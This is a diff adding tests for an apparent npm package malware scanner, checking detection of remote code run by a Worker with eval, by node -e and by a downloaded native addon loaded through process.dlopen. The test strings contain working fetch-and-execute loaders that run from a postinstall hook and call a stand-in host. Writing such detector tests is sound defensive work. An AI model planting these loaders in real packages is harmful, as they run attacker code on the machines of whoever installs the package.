@@ -1822,3 +1822,41 @@ require('http').request({ hostname: '198.51.100.70', port: 8080, method: 'POST',
     expect(r.risk_level).toBe('critical');
   });
 });
+
+describe('downloaded code run by other doors: worker eval, the node binary, native addons', () => {
+  const rules = (code: string) =>
+    analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': code,
+    }).evidence.map((f) => f.rule);
+  it('new Worker(code, { eval: true }) with code fetched', () => {
+    expect(
+      rules(`const { Worker } = require('worker_threads');
+fetch('https://cfg.update-svc.example/w').then((r) => r.text()).then((code) => new Worker(code, { eval: true }));`),
+    ).toContain('js.eval-network');
+  });
+  it('process.execPath -e with code downloaded', () => {
+    expect(
+      rules(`const https = require('https'); const { execFileSync } = require('child_process');
+https.get('https://cfg.update-svc.example/n', (res) => { let s = ''; res.on('data', (d) => (s += d)); res.on('end', () => execFileSync(process.execPath, ['-e', s])); });`),
+    ).toContain('js.exec-network-data');
+  });
+  it('a downloaded native addon loaded with process.dlopen', () => {
+    expect(
+      rules(`const https = require('https'); const fs = require('fs'); const path = require('path'); const os = require('os');
+const out = path.join(os.tmpdir(), 'binding-' + process.pid + '.node');
+https.get('https://cdn.update-svc.example/addon/' + process.platform, (res) => {
+  const chunks = []; res.on('data', (c) => chunks.push(c));
+  res.on('end', () => { fs.writeFileSync(out, Buffer.concat(chunks)); process.dlopen({ exports: {} }, out); });
+});`),
+    ).toContain('js.drop-and-run');
+  });
+  it('a worker from a file, node running a shipped script and a shipped addon loaded are not', () => {
+    const found =
+      rules(`const { Worker } = require('worker_threads'); const { execFileSync } = require('child_process'); const path = require('path');
+new Worker(path.join(__dirname, 'worker.js'));
+execFileSync(process.execPath, [path.join(__dirname, 'build.js')]);
+process.dlopen({ exports: {} }, path.join(__dirname, 'build', 'Release', 'addon.node'));`);
+    expect(found.filter((r) => /eval|exec-network|drop-and-run/.test(r))).toEqual([]);
+  });
+});
